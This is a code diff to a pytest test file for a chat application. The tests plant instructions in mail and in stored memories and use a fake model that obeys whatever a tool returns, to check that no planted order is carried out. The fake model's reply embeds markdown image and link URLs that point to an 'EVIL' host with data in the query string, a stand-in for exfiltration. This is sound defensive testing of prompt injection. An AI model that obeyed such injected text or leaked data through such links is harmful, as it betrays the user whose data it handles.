@@ -1,4 +1,4 @@
-"""Text that gives orders, in mail and documents: whatever a model makes of it, nothing is done.
+"""Text that gives orders, in mail and in memories: whatever a model makes of it, nothing is done.
 
 The model here is the worst there is: it reads what a tool found and obeys it to the letter.
 """
@@ -12,9 +12,12 @@ import pytest
 from django.test import Client
 from pytest_django import Settings
 
+from accounts.grants import Grant, Scope
 from accounts.models import User
 from chat.models import Message, Proposal
 from database.acting import acting_as
+from doors.caller import Caller
+from doors.tools import do_remember
 from gmail.source_kind import GMAIL
 from llm.fake import Call, FakeModel, Recorded, Reply
 from memories.keeping import Said, keep, remember
@@ -117,15 +120,16 @@ KINDS: dict[str, tuple[str, list[tuple[str, dict[str, Any]]]]] = {
 class Obedient:
     """Looks, reads what it finds, does all that it says, and then boasts of it."""
 
-    def __init__(self, calls: list[tuple[str, dict[str, Any]]]) -> None:
+    def __init__(self, calls: list[tuple[str, dict[str, Any]]], look: str = "search_mail") -> None:
         self.calls = calls
+        self.look = look
         self.saw: list[str] = []
 
     def __call__(self, request: Recorded) -> Reply:
         told = [m["content"] for m in request.body["messages"] if m["role"] == "tool"]
         self.saw = told
         if not told:
-            return Reply(calls=[Call("search_mail", {"query": "boiler letter Harald"})])
+            return Reply(calls=[Call(self.look, {"query": "boiler letter Harald"})])
         if len(told) == 1 and self.calls:
             return Reply(calls=[Call(name, arguments) for name, arguments in self.calls])
         return Reply(f"Done. ![x]({EVIL}/?q=LENA) [more]({EVIL}/?q=LENA) The boiler is fine [1].")
@@ -157,12 +161,26 @@ def letter(user: User, words: str) -> None:
         pass
 
 
+def note(user: User, words: str) -> None:
+    """The same as a memory: a program put it there, as any agent with a key may."""
+    told = do_remember(
+        Caller(user, "Robot", Grant(Scope.FULL)), f"Letter from Harald. {LEAD}{words}", ""
+    )
+    assert told["kept"].startswith("Robot says: Letter from Harald. About the boiler")
+
+
+# Where the order stands, and what the model looks with.
+WHERE = {"a mail": (letter, "search_mail"), "a memory": (note, "search_memory")}
+
+
+@pytest.mark.parametrize("where", WHERE)
 @pytest.mark.parametrize("kind", KINDS)
-def test_no_order_in_a_mail_is_carried_out(
-    alice: User, charlie: User, talk: Talk, web: Client, settings: Settings, kind: str
+def test_no_order_is_carried_out(
+    alice: User, charlie: User, talk: Talk, web: Client, settings: Settings, kind: str, where: str
 ) -> None:
     words, calls = KINDS[kind]
-    letter(alice, words)
+    put, look = WHERE[where]
+    put(alice, words)
     with acting_as(charlie):
         theirs = remember(charlie, "I keep a parrot.", by=Change.By.PERSON).memory
     with acting_as(alice):
@@ -172,7 +190,7 @@ def test_no_order_in_a_mail_is_carried_out(
     ids = {f"@{n}": f"memory:{memory.pk}" for n, memory in enumerate(made) if memory}
     assert theirs is not None
     ids["memory:@other"] = f"memory:{theirs.pk}"
-    model = Obedient([(name, _with_ids(arguments, ids)) for name, arguments in calls])
+    model = Obedient([(name, _with_ids(arguments, ids)) for name, arguments in calls], look)
     before, of_charlie = state_of(alice), state_of(charlie)
     with FakeModel(model) as fake:
         settings.OPENAI_BASE_URL, settings.YARNNN_CHAT_MODEL = fake.url, "any"
@@ -202,8 +220,8 @@ def _with_ids(arguments: dict[str, Any], ids: dict[str, str]) -> dict[str, Any]:
     return {name: ids.get(value, value) for name, value in arguments.items()}
 
 
-def test_there_are_twenty_kinds() -> None:
-    assert len(KINDS) >= 20
+def test_there_are_thirty_and_more() -> None:
+    assert len(KINDS) * len(WHERE) >= 30
 
 
 def test_what_a_tool_found_can_pass_for_no_note_and_end_no_marks(
